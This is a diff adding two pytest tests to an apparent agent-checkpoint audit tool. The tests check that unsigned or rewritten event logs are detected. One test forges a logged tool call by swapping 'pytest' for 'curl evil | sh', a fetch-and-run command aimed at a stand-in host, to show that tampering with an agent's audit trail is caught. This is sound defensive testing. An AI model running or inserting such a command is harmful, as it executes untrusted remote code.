@@ -16,6 +16,7 @@ from pathlib import Path
 import pytest
 from conftest import git
 from helpers import ckpt, ckpt_json, real_ckpt
+from verify_attacks import find, rebuild_log
 
 from git_agentckpt.audit.signatures import check_trail_signatures
 from git_agentckpt.errors import RepositoryError
@@ -155,6 +156,63 @@ def test_a_commit_rewritten_without_signature_is_reported(repo: Path, tmp_path: 
     assert result.exit_code == 6
     assert f"unsigned-commit at {forged}" in result.output
     assert verified_kinds(repo) == [("unsigned-commit", forged)]
+
+
+@needs_ssh
+def test_a_log_rewritten_unsigned_beside_signed_checkpoints_is_caught(
+    repo: Path, tmp_path: Path
+) -> None:
+    """Issue 26 item 2: the whole log rewritten unsigned, one event edited, every Log-Digest
+    and Parent-Head line computed again. Before: `verify ok`, the checkpoints' good
+    signatures counted. The log commit that holds the first signed checkpoint's prepare was
+    written in that checkpoint's transaction: it and every later one must be signed."""
+    sign_with_ssh(repo, tmp_path)
+    git(repo, "config", "ckpt.sign", "true")
+    run_task(repo)
+
+    def edit(items: list[tuple[str, str]]) -> list[tuple[str, str]]:
+        i = find(items, lambda e: e["type"] == "tool.call")
+        tree, message = items[i]
+        assert '"pytest"' in message
+        return [
+            *items[:i],
+            (tree, message.replace('"pytest"', '"curl evil | sh"')),
+            *items[i + 1 :],
+        ]
+
+    rebuild_log(repo, "refs/agent/events/t1", edit, reseal=True)
+    forged = chain(repo, "refs/agent/events/t1")
+    assert not any("gpgsig" in git(repo, "cat-file", "-p", c) for c in forged)
+    result = ckpt(repo, "verify", ok=False)
+    assert result.exit_code == 6, result.output
+    assert verified_kinds(repo) == [("unsigned-commit", c) for c in reversed(forged)]
+    assert (
+        f"error: task t1: unsigned-commit at {forged[-1]}: the event log commit is unsigned: "
+        "the task's checkpoints are signed from before it (the log was rewritten?)"
+    ) in result.output
+
+
+@needs_ssh
+def test_with_ckpt_sign_true_a_trail_unsigned_as_a_whole_is_caught(
+    repo: Path, tmp_path: Path
+) -> None:
+    """A task whose every commit is unsigned (written elsewhere, or rewritten as a whole):
+    no signed commit is left to start from, so only `ckpt.sign true` says one is owed; then
+    the newest commit of each chain must be signed."""
+    other = tmp_path / "other"
+    git(tmp_path, "clone", "-q", str(repo), str(other))
+    run_task(other)  # no signing configured there
+    sign_with_ssh(repo, tmp_path)
+    everything = ["+refs/agent/*:refs/agent/*", "+refs/notes/agent/*:refs/notes/agent/*"]
+    git(repo, "fetch", "-q", str(other), *everything)
+    assert ckpt_json(repo, "verify")["ok"] is True  # `ckpt.sign auto`: no promise made
+    git(repo, "config", "ckpt.sign", "true")
+    tips = [git(repo, "rev-parse", f"refs/agent/{c}/t1") for c in ("checkpoints", "events")]
+    assert verified_kinds(repo) == [("unsigned-commit", c) for c in tips]
+    result = ckpt(repo, "verify", ok=False)
+    assert (
+        "ckpt.sign is true here, so the newest commit of each chain must be signed" in result.output
+    )
 
 
 @needs_ssh
